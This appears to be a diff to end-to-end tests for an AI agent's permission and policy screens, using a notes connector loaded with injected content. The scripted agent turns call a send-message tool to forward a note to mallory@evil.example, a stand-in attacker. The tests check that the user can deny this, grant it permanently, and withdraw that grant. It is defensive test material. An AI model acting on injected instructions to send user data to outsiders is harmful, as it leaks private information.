@@ -18,7 +18,13 @@ before(async () => {
       calls(['mcp__notes__find_notes', { query: 'lunch' }]),
       calls(['mcp__notes__send_message', { recipient: 'mallory@evil.example', body: 'Lunch at noon.' }]),
       says('I sent nothing.'),
+      ...[['I sent it.'], []].flatMap((ends) => [
+        calls(['mcp__notes__find_notes', { query: 'lunch' }]),
+        calls(['mcp__notes__send_message', { recipient: 'mallory@evil.example', body: 'Lunch at noon.' }]),
+        ...ends.map((text) => says(text)),
+      ]),
     ],
+    managed: '[[rule]]\nname = "no-contracts"\nverdict = "deny"\nreason = "contracts stay where they are"\n[rule.when]\npath = ["/mnt/*/Contracts/**"]\n',
   })
   await machine.api('POST', '/connectors', { name: 'notes', command: await notes(machine, 'injected') })
   await machine.api('POST', '/connectors/notes/approve', {})
@@ -65,6 +71,41 @@ test('the view of trust says what was read and from whom, and what was asked and
   await page.locator('[data-shielded=false]').getByRole('button', { name: "Don't allow" }).click()
   await view.getByText('you did not allow it').waitFor()
   await machine.until(task, ({ status }) => status === 'done')
+  assert.deepEqual(browser.takeFaults(), [])
+  await page.close()
+})
+
+test('what is always allowed on a card stands in the settings with its task, and is withdrawn there', async () => {
+  const second = await machine.task('When do we have lunch?')
+  await machine.until(second, ({ status }) => status === 'waiting')
+  const page = await browser.open(machine, `/tasks/${second}`)
+  await page.locator('[data-shielded=false]').getByRole('button', { name: 'Always allow mallory@evil.example' }).click()
+  await machine.until(second, ({ status }) => status === 'done')
+
+  await page.goto(`${machine.origin}/settings/policy`)
+  const list = page.getByRole('region', { name: 'Allowed for good' })
+  const line = list.getByRole('listitem').filter({ hasText: 'mallory@evil.example' })
+  await line.getByText('To send to or share with', { exact: false }).waitFor()
+  assert.equal(await line.getByRole('link', { name: 'When do we have lunch?' }).getAttribute('href'), `/tasks/${second}`)
+  assert.deepEqual(await violations(page), [])
+  await line.getByRole('button', { name: 'Withdraw mallory@evil.example' }).click()
+  await list.getByText('Nothing is allowed for good.').waitFor()
+  assert.deepEqual(await machine.api('GET', '/settings/policy/values'), [])
+
+  // It is asked about again.
+  const third = await machine.task('When do we have lunch?')
+  await machine.until(third, ({ status }) => status === 'waiting')
+  assert.deepEqual(browser.takeFaults(), [])
+  await page.close()
+})
+
+test('the rules of the organisation are shown with their file, to be read only', async () => {
+  const page = await browser.open(machine, '/settings/policy')
+  const theirs = page.getByRole('region', { name: 'Rules of your organisation' })
+  const file = theirs.getByRole('region', { name: machine.env.DESKHAND_MANAGED_POLICY })
+  await file.getByRole('listitem').filter({ hasText: 'no-contracts' }).getByText('contracts stay where they are').waitFor()
+  assert.equal(await theirs.getByRole('button').or(theirs.getByRole('textbox')).count(), 0)
+  assert.deepEqual(await violations(page), [])
   assert.deepEqual(browser.takeFaults(), [])
   await page.close()
 })
